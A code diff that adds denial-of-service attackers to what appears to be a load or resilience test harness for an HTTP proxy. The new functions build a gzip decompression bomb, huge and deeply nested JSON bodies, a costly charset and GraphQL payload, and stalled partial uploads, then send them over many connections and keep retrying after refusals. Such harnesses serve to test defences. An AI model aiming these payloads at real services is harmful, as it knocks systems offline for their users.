@@ -10,6 +10,7 @@ from __future__ import annotations
 import asyncio
 import collections
 import contextlib
+import gzip
 import json
 import os
 import resource
@@ -213,9 +214,72 @@ def guess(spec: Spec, until: float) -> Seen:
     return asyncio.run(guess_for(spec, until))
 
 
+def lists(size: int) -> bytes:
+    return b"[" + b"[]," * (size // 3) + b"[]]"
+
+
+GZIP = "Content-Encoding: gzip\r\n"
+#: Bodies that are small to send and costly to read: path, fields, content. They go to
+#: the routes of attack.CONTENT.
+BODIES: dict[str, Callable[[], tuple[str, str, bytes]]] = {
+    "bomb": lambda: ("/json", GZIP, gzip.compress(lists(12_000_000))),
+    "charset": lambda: (
+        "/charset", GZIP + "Content-Type: application/json; charset=punycode\r\n",
+        gzip.compress(b'{"password": "' + b"a-" * 1_000_000 + b'"}')),
+    "graphql": lambda: ("/graphql", "", json.dumps(
+        {"query": '"""' + '\n\\"""' * 6000}).encode()),
+    "paths": lambda: ("/paths", "", lists(1_000_000)),
+    "deep": lambda: ("/paths", "", b"[" * 150 + b"]" * 150),
+    "partial": lambda: ("/partial", "", json.dumps(
+        [[number] for number in range(3000)]).encode()),
+    "masked": lambda: ("/raw", "Content-Type: application/json\r\n",
+                       lists(3_900_000)),
+}  # fmt: skip
+
+
+def post(spec: Spec, path: str, fields: str, length: int) -> bytes:
+    word = credentials(spec["guest"], spec["secret"])
+    return (f"POST http://a.body.test{path} HTTP/1.1\r\nHost: a.body.test\r\n"
+            f"Proxy-Authorization: Basic {word}\r\n{fields}"
+            f"Content-Length: {length}\r\n\r\n").encode()  # fmt: skip
+
+
+async def post_bodies(spec: Spec, until: float) -> Seen:
+    seen: collections.Counter[str] = collections.Counter()
+    path, fields, body = BODIES[spec["body"]]()
+    request = post(spec, path, fields, len(body)) + body
+
+    async def go_on() -> None:
+        while (left := until - time.monotonic()) > 0:
+            try:
+                async with asyncio.timeout(left):
+                    reader, writer = await asyncio.open_connection(
+                        spec["host"], spec["port"], local_addr=(spec["attacker"], 0))
+                    with contextlib.closing(writer):
+                        writer.write(request)
+                        head = await reader.readuntil(b"\r\n\r\n")
+                seen[f"answered_{head[9:12].decode()}"] += 1
+            except (OSError, TimeoutError, asyncio.IncompleteReadError) as error:
+                seen[type(error).__name__] += 1
+                await asyncio.sleep(0.1)  # a refusal is no end of the attack
+
+    await asyncio.gather(*(go_on() for _ in range(spec["conns"])))
+    return {"size": len(body), **seen}
+
+
+def bodies(spec: Spec, until: float) -> Seen:
+    """Sends costly bodies from several connections, each again behind its answer."""
+    return asyncio.run(post_bodies(spec, until))
+
+
+def held(spec: Spec, until: float) -> Seen:
+    """Sends most of bodies that are collected, then nothing."""
+    return crowd(spec, until, post(spec, "/raw", "", 4 << 20) + bytes(4_000_000))
+
+
 ATTACKERS: dict[str, Callable[[Spec, float], Seen]] = {
     "guess": guess, "idle": idle, "heads": heads, "leave": leave, "hellos": hellos,
-    "greetings": greetings, "shake": shake,
+    "greetings": greetings, "shake": shake, "bodies": bodies, "held": held,
 }  # fmt: skip
 
 
